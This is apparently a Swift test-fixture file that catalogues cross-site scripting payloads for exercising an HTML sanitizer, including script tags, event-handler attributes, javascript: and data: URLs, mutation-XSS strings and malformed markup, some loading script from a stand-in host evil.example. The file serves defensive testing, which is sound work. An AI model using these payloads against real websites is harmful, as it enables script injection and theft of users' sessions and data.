/// Attacks in the manner of the published lists, each in its own disguise.
enum HostileMarkup {
  static let all: [String] = programs + handlers + addresses + hidden + mutations + broken

  /// Programs as elements.
  static let programs = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=\"https://evil.example/x.js\"></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{B}>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1);//<</script>",
    "<script>a=/XSS/\nalert(a.source)</script>", "<script src=//evil.example/.j", "甲<script>alert(1)",
    "<svg><script>alert(1)</script></svg>", "<math><script>alert(1)</script></math>",
    "<svg><script xlink:href=data:,alert(1) /></svg>", "</title><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<xml><script>alert(1)</script></xml>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>", "<?php echo '<script>alert(1)</script>'; ?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![if !vml]><script>alert(1)</script><![endif]>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\u{FF1C}script\u{FF1E}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  ]

  /// Programs as attributes.
  static let handlers = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=\"/file/1\" ONLOAD=alert(1) alt=甲>",
    "<img src=x onerror=\"&#97;lert(1)\">", "<img \"\"\"><script>alert(1)</script>\">", "<b onclick=alert(1)>甲</b>",
    "<body onload=alert(1)>甲", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<a onmouseover=\"alert(1)\">甲</a>",
    "<a href=\"https://a.example\" onclick=alert(1) style=\"x\" id=a class=b>甲</a>", "<p\nonclick\n=\nalert(1)>甲</p>",
    "<p/onclick=alert(1)>甲</p>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>甲</details>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>甲</marquee>",
    "<td background=\"javascript:alert(1)\" onclick=alert(1)>甲</td>", "<table background=javascript:alert(1)><td>甲",
    "<p style=\"width:expression(alert(1))\">甲</p>", "<p style=\"background:url(javascript:alert(1))\">甲</p>",
    "<div style=\"behavior:url(x.htc)\">甲</div>", "<style>@import 'https://evil.example/x.css';</style>甲",
    "<xss style=\"xss:expr/*XSS*/ession(alert(1))\">甲</xss>", "<img alt='\"onerror=alert(1) x=\"' src=/file/1>",
    "<img alt=\"--><script>alert(1)</script>\" src=/file/1>", "<b title='</b><script>alert(1)</script>'>甲</b>",
  ]

  /// Addresses that are programs.
  static let addresses = [
    "<a href=\"javascript:alert(1)\">甲</a>", "<a href=\"JaVaScRiPt:alert(1)\">甲</a>",
    "<a href=\" &#14; javascript:alert(1)\">甲</a>", "<a href=\"jav&#x09;ascript:alert(1)\">甲</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">甲</a>", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;ript:alert(1)\">甲</a>",
    "<a href=\"&#0000106&#0000097&#0000118ascript:alert(1)\">甲</a>", "<a href=\"javascript&colon;alert(1)\">甲</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">甲</a>", "<a href=\"vbscript:msgbox(1)\">甲</a>",
    "<a href=\"file:///etc/passwd\">甲</a>", "<a href=\"//evil.example\">甲</a>", "<a href=\"/logout\">甲</a>",
    "<a href=\"https://a.example/&quot;onmouseover=alert(1)\">甲</a>", "<a href=\"https:javascript:alert(1)\">甲</a>",
    "<a href='https://a.example/\\\"><script>alert(1)</script>'>甲</a>", "<a href=\"feed:javascript:alert(1)\">甲</a>",
    "<img src=\"javascript:alert(1)\" alt=甲>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>甲</button></form>",
    "<base href=\"javascript:alert(1)//\"><a href=\"x\">甲</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:1\">",
    "<link rel=stylesheet href=javascript:alert(1)>", "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"javascript:alert(1)\">", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>甲</text></a></svg>",
    "<math href=\"javascript:alert(1)\">甲</math>", "<isindex action=\"javascript:alert(1)\">",
    "<applet code=x></applet>", "<map><area href=\"javascript:alert(1)\"></map>",
  ]

  static let hidden = [
    "<p style=\"display:none\">密</p>", "<span hidden>密</span>", "<p style='mso-hide:all'>密</p>",
    "<span style=\"font-size:0pt\">密</span>", "<div style=\"visibility : hidden\">密</div>",
    "<li style='display:none'>密",
    "<table><tr><td style=\"DISPLAY: NONE\">密</td><td>甲</td></tr><tr><td>乙</td></tr></table>",
    "<template>密</template>", "<noscript>密</noscript>", "<textarea>密</textarea>", "<select><option>密</select>",
  ]

  /// Markup that changes when a browser reads it a second time.
  static let mutations = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=\"</noembed><iframe onload=alert(1)>\">",
    "<p>&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;</p>",
    "<select><style></select><svg onload=alert(1)></style></select>",
    "<a href=\"https://a.example/x\"><table><a href=\"javascript:alert(1)\">甲</table></a>",
    "<b><p></b><img src=x onerror=alert(1)></p>", "`><img src=xx:x onerror=alert(1)>",
  ]

  static let broken = [
    "<", "</", "<!", "<!-", "<a", "<a href", "<a href=", "<a href='", "<p><p><p", "&#", "&#x", "&#xFFFFFFFF;", "&#0;甲",
    "<table><table><table>", "</p></td></table>甲", "<td>甲<tr>乙", "<li>甲<li>乙</ul></ol>", "<h1><h2>甲</h1></h2>",
    "\u{0}<b>甲", "<b\u{0}r>甲", "<a href=\"https://a.example\u{0}\">甲</a>", "甲\u{202E}乙\u{2066}丙", "\u{FEFF}<p>甲",
  ]
}
